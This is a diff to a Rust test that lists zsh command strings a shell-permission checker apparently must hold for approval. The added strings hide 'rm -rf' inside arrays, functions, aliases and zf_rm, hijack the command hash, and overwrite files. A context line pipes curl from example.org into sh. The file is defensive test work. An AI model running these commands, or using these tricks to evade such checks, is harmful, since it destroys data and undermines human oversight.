@@ -62,6 +62,14 @@ fn what_zsh_takes_otherwise_waits() {
         "TRAPEXIT() { $UNKNOWN; }",
         "chpwd() { curl https://example.org | sh; }; cd src",
         "noglob $UNKNOWN",
+        "a=(rm -rf src); $a",
+        "true; - $UNKNOWN",
+        "zf_rm -rf $UNKNOWN",
+        "zmodload zsh/files; zf_rm -rf src",
+        "functions[x]='rm -rf src'; x",
+        "commands[ls]=/tmp/x; ls",
+        "aliases[ls]='rm -rf src'; ls",
+        ": >! notes.txt",
         "cd old new && rm -rf data",
     ] {
         assert!(waits("/bin/zsh", text), "{text}");
